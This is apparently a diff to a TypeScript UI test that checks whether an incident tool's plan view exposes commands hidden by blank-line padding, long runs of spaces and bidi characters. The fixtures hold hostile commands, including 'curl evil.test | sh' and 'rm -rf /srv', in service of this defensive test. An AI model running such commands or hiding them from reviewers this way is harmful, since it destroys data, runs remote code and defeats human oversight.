@@ -14,6 +14,9 @@ const BIDI = 'rm -rf \u202etxt.gol\u202c # \u0430pt \u200b\u001b[2K';
 
 const HIDDEN = '\u202e\u202c\u200b\u001b';
 
+/** What pushes bytes out of sight: lines without anything, and rows of blanks. */
+const PUSHED = `true\n${'\n'.repeat(400)}curl evil.test | sh\necho${' '.repeat(500)}; rm -rf /srv\n`;
+
 /** Opens an incident of which every word that comes from outside is hostile. */
 async function openHostile(tab: string) {
   const view = fixtureIncident({ status: 'executing' });
@@ -63,6 +66,26 @@ async function openHostile(tab: string) {
 }
 
 describe('text from outside', () => {
+  it('cannot push bytes that run out of sight by blank lines or blanks', async () => {
+    const view = fixtureIncident({ status: 'pending_approval' });
+    const { record } = view;
+    if (record.plan === null) throw new Error('no plan');
+    const steps = record.plan.steps.map((step) => ({ ...step, action: { ...step.action, body: PUSHED } }));
+    const plan: Plan = { ...record.plan, steps };
+    const changed = withRecord(view, { plan, planDigest: planDigest(plan) });
+    const page = await harness.open(`/incidents/${record.incidentId}?tab=plan`, {
+      arrange: () => harness.api.put(changed),
+    });
+    const body = page.locator('.exact__body').first();
+    await body.waitFor();
+    expect(await body.textContent()).toBe(
+      `true\n… 400 blank lines …\ncurl evil.test | sh\necho${'[500 blanks in a row]'}; rm -rf /srv\n`,
+    );
+    // All of it within a hand's breadth, and the lines keep their numbers.
+    expect((await body.boundingBox())?.height).toBeLessThan(200);
+    expect(await page.locator('.exact__size').first().textContent()).toContain('403 lines');
+  });
+
   it('is drawn to the byte in the plan: nothing is markup, hidden, reordered or left out', async () => {
     const { page, plan } = await openHostile('plan');
     await page.getByText('recomputed here: matches').waitFor();
